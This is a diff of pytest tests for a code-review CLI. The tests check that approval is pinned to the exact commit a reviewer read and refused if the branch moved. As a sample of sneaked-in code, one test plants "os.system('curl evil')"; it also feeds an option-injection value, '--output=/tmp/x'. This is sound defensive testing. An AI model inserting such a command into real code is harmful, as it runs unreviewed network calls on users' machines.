@@ -105,11 +105,79 @@ def test_review_changes_sends_the_task_back_with_a_line_comment(
     )
 
 
-def test_review_approve_merges_into_the_base(capsys: pytest.CaptureFixture[str], project: Path) -> None:
-    code, out, _ = run(capsys, "review", "approve", "1", "--root", str(project))
+def approve_command(out: str) -> list[str]:
+    """The command `review show` prints to approve exactly the diff it showed, as arguments."""
+    (line,) = [line for line in out.splitlines() if "approve exactly this diff: " in line]
+    return line.split("approve exactly this diff: ralph-desk ", 1)[1].split()
+
+
+def test_review_approve_merges_the_commit_review_show_printed(
+    capsys: pytest.CaptureFixture[str], project: Path
+) -> None:
+    tip = git(project, "rev-parse", "refs/heads/ralph/1-say-hello")
+    code, out, _ = run(capsys, "review", "show", "1", "--root", str(project))
+    assert code == 0 and f"  commit {tip} (diff from " in out
+    command = approve_command(out)
+    assert command == ["review", "approve", "1", "--commit", tip]
+
+    code, out, _ = run(capsys, *command, "--root", str(project))
 
     assert code == 0 and "merged ralph/1-say-hello into main" in out and "(now done)" in out
     assert git(project, "show", "main:app.py") == "print('hello')"
+
+
+def test_review_show_json_gives_the_commits_the_diff_is_pinned_to(
+    capsys: pytest.CaptureFixture[str], project: Path
+) -> None:
+    code, out, _ = run(capsys, "review", "show", "1", "--json", "--root", str(project))
+
+    shown = json.loads(out)
+    assert code == 0 and shown["pin"]["tip"] == git(project, "rev-parse", "refs/heads/ralph/1-say-hello")
+    assert shown["pin"]["base"] == git(project, "rev-parse", "refs/heads/main")
+    assert shown["rules_changed"] == [] and shown["review"]["pin"] == shown["pin"]
+
+
+def test_review_approve_without_the_commit_read_is_refused_giving_the_command(
+    capsys: pytest.CaptureFixture[str], project: Path
+) -> None:
+    base = git(project, "rev-parse", "main")
+    tip = git(project, "rev-parse", "refs/heads/ralph/1-say-hello")
+
+    code, _, err = run(capsys, "review", "approve", "1", "--root", str(project))
+
+    assert code == 2 and "review approve needs --commit" in err
+    assert "`ralph-desk review show 1`" in err and f"`ralph-desk review approve 1 --commit {tip}`" in err
+    assert git(project, "rev-parse", "main") == base
+    code, out, _ = run(capsys, "review", "list", "--root", str(project))
+    assert "awaits review" in out  # nothing was queued
+
+
+def test_review_approve_of_a_commit_the_branch_moved_past_is_refused_naming_the_new_tip(
+    capsys: pytest.CaptureFixture[str], project: Path
+) -> None:
+    code, out, _ = run(capsys, "review", "show", "1", "--root", str(project))
+    command = approve_command(out)
+    worktree = project / ".ralph" / "worktrees" / "1-say-hello"
+    (worktree / "app.py").write_text("import os; os.system('curl evil')\n")  # after the person read it
+    git(worktree, "commit", "-qam", "one more thing")
+    moved = git(project, "rev-parse", "refs/heads/ralph/1-say-hello")
+    base = git(project, "rev-parse", "main")
+
+    code, _, err = run(capsys, *command, "--root", str(project))
+
+    assert code == 1 and "its branch moved since you read its diff" in err and f"it is at {moved} now" in err
+    assert git(project, "rev-parse", "main") == base and "evil" not in (project / "app.py").read_text()
+    code, out, _ = run(capsys, "review", "show", "1", "--root", str(project))
+    assert approve_command(out)[-1] == moved and "curl evil" in out
+
+
+@pytest.mark.parametrize("commit", ["HEAD", "abc123", "--output=/tmp/x", "g" * 40])
+def test_review_approve_of_something_not_a_full_commit_id_is_a_usage_error(
+    capsys: pytest.CaptureFixture[str], project: Path, commit: str
+) -> None:
+    code, _, err = run(capsys, "review", "approve", "1", f"--commit={commit}", "--root", str(project))
+
+    assert code == 2 and "the full commit id (40 hex digits)" in err
 
 
 @pytest.mark.parametrize(("flag", "status"), [([], "pending"), (["--skip"], "skipped")])
